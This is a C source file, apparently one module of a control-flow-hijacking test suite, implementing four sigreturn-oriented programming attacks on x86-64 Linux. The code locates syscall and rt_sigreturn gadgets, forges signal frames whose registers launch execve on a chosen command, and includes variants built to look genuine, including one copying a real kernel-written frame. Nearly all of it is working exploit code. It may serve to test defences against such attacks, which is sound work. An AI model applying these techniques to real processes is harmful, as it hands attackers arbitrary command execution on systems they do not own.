// Signal frames: attack 11.
#include "hijack.h"
#include <signal.h>
#include <ucontext.h>

// mov $15, %rax; syscall: what sa_restorer points to in every C library.
static word restorer(void) { return need(find("48 c7 c0 0f 00 00 00 0f 05"), "rt_sigreturn"); }

// What sigreturn is to load: execve's arguments, and where to go on.
static void fill(ucontext_t *context, word rip, word rsp) {
  greg_t *registers = context->uc_mcontext.gregs;
  registers[REG_RDI] = (greg_t)mark_argv[0];
  registers[REG_RSI] = (greg_t)mark_argv;
  registers[REG_RDX] = 0;
  registers[REG_RAX] = SYS_execve;
  registers[REG_RIP] = (greg_t)rip;
  registers[REG_RSP] = (greg_t)rsp;
  registers[REG_EFL] = 0x202;
  registers[REG_CSGSFS] = 0x002b000000000033; // ss, fs, gs, cs
}

// The words of a ucontext_t as the kernel has it, which is shorter than the C library's.
static void add_context(const ucontext_t *context) {
  enum { KERNEL_BYTES = 304 };
  for (size_t n = 0; n < KERNEL_BYTES / 8; n++) add(((const word *)context)[n]);
}

static ucontext_t context;

// sigreturn sets every register, and goes on at a bare syscall instruction.
static void sigreturn_execve(void) {
  fill(&context, need(find("0f 05 c3"), "syscall; ret"), (word)&context);
  add(restorer());
  add_context(&context);
  strike();
}

// The same into execve itself, with the stack pointer where the genuine stack begins: no dead word tells of a ret.
static void sigreturn_clean(void) {
  fill(&context, execve_entry(), joint);
  add(restorer());
  add_context(&context);
  strike();
}

// A forged frame above execve, which seems to be the handler. It says no more than where the interrupted code was.
static void forged_frame(void) {
  fill(&context, *(word *)joint, joint + 8);
  load_command();
  add(execve_entry());
  add(restorer());
  add_context(&context);
  strike();
}

// MARK: A frame exactly as the kernel writes it

static word real_words[2048], real_from;
static size_t real_count;

static void keep_real_frame(int number, siginfo_t *info, void *raw) {
  (void)number, (void)info;
  const ucontext_t *real = raw;
  real_from = (word)real - 8; // the restorer's address lies below
  word end = (word)real->uc_mcontext.fpregs + 512;
  // sw_reserved (asm/sigcontext.h): its second word says how large the extended state is.
  uint32_t extended = ((const uint32_t *)((const char *)real->uc_mcontext.fpregs + 464))[1];
  if (((const uint32_t *)((const char *)real->uc_mcontext.fpregs + 464))[0] == 0x46505853) end = (word)real->uc_mcontext.fpregs + extended;
  real_count = (end - real_from + 7) / 8;
  if (real_count > LENGTH(real_words)) real_count = 0;
  else memcpy(real_words, (const void *)real_from, 8 * real_count);
}

// A real signal is taken once and its frame kept: flags, segments, the floating point state and its magic numbers are the kernel's own.
// The interrupted place is a genuine one of this thread.
static void exact_frame(void) {
  struct sigaction action = {.sa_sigaction = keep_real_frame, .sa_flags = SA_SIGINFO};
  sigaction(SIGUSR1, &action, NULL);
  raise(SIGUSR1);
  if (real_count == 0) impossible("a signal frame of another kind");
  load_command_and_rax(execve_entry());
  word end = below(joint, real_from + 8 * real_count); // the floating point state is aligned to 64 bytes
  end_at(end);
  word away = end - 8 * real_count - real_from;
  ucontext_t *real = (ucontext_t *)(real_words + 1);
  real->uc_mcontext.fpregs = (fpregset_t)((word)real->uc_mcontext.fpregs + away);
  real->uc_mcontext.gregs[REG_RIP] = (greg_t)*(word *)joint;
  real->uc_mcontext.gregs[REG_RSP] = (greg_t)(joint + 8);
  jump_to_rax();
  for (size_t n = 0; n < real_count; n++) add(real_words[n]);
  strike();
}

const struct attack signal_attacks[] = {
    {"sigreturn-execve", sigreturn_execve},
    {"sigreturn-clean", sigreturn_clean},
    {"signal-frame", forged_frame},
    {"signal-frame-exact", exact_frame},
    {NULL, NULL},
};
